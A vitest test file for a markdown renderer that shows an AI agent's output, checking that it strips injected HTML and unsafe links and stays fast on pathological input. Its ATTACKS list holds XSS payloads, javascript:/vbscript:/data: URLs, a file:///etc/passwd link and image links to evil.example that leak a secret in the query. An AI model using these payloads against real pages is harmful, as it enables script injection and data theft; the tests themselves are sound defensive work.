import { describe, expect, it } from 'vitest'
import { createMarkdownRenderer, isAllowedLink } from './markdown.ts'

const render = createMarkdownRenderer()

/** Tags that the renderer may make of its own. Anything else in its output came from the agent. */
const OWN_TAG =
  /^<\/?(?:p|br|hr|em|strong|s|code|pre|ul|ol|li|blockquote|h[1-6]|table|thead|tbody|tr|th|td|div|a)(?: (?:class|href|target|rel|start|title)="[^"<>]*")*>$/

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "https://evil.example"</style>',
  '<!--><script>alert(1)</script-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/api/agents)',
  '[x](https:evil)',
  '[x](blob:https://evil.example/1)',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/p.png?secret=1)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][r]\n\n[r]: https://evil.example/p.png',
  '![a" onerror="alert(1)](https://evil.example/" onerror="alert(1))',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[x](https://evil.example "t\\" onmouseover=\\"alert(1)")',
  'https://evil.example/"onmouseover="alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  '``` js" onclick="alert(1)\nx\n```',
  '| <script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | 2 |',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
]

describe('markdown of an agent', () => {
  it.each(ATTACKS)('lets nothing through: %j', (attack) => {
    const html = render(attack)
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).toMatch(OWN_TAG)
    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^(https?:\/\/|mailto:)/)
    expect(html).not.toMatch(/<img|<script|style=/i)
  })

  it('makes links of http, https and mailto that open elsewhere and tell nothing', () => {
    expect(render('[a](https://example.org/?a=1&b=2)')).toBe(
      '<p><a href="https://example.org/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n',
    )
    expect(render('see https://example.org and me@example.org')).toContain('href="mailto:me@example.org"')
    expect(render('edit notes.md')).toBe('<p>edit notes.md</p>\n')
  })

  it('names an image and links to it', () => {
    expect(render('![a cat](https://example.org/cat.png)')).toContain('>[image: a cat]</a>')
    expect(render('![a cat]()')).toBe('<p>[image: a cat]</p>\n')
  })

  it('aligns columns without style attributes', () => {
    expect(render('| a |\n|--:|\n| 1 |')).toContain('<td class="right">1</td>')
  })

  it('stays quick and safe with texts made to be slow', () => {
    const size = 200_000
    const pieces = ['[', '![[', '`', '<', '> ', '- ', '*a ', 'http://', 'a@', '|a', '\\', '&#x', '[a](']
    for (const piece of pieces) {
      for (const length of [60_000, size]) {
        const started = performance.now()
        expect(render(piece.repeat(length / piece.length))).not.toMatch(/<script|<img/)
        expect(performance.now() - started).toBeLessThan(2_000)
      }
    }
  })

  it('shows as it was written what was made to keep the parser busy, however short', () => {
    const table = `|${'a|'.repeat(50)}\n|${'-|'.repeat(50)}\n${'|\n'.repeat(2_000)}`
    for (const text of [table, '>'.repeat(90) + '\na'.repeat(4_000), '!['.repeat(3_000), 'a\r'.repeat(5_000)])
      expect(render(text)).toMatch(/^<p class="plain">/)
    expect(render('- [ ] **one**\n- [x] two\n'.repeat(200))).toContain('<strong>one</strong>')
  })

  it('knows which addresses may be linked', () => {
    const good = ['https://a.example', 'HTTP://a.example/x', 'mailto:a@b.example']
    const bad = [
      '',
      'https://',
      'https:///x',
      'javascript:1',
      ' https://a.example',
      'ftp://a.example',
      'mailto:',
    ]
    expect(good.filter(isAllowedLink)).toEqual(good)
    expect(bad.filter(isAllowedLink)).toEqual([])
  })
})
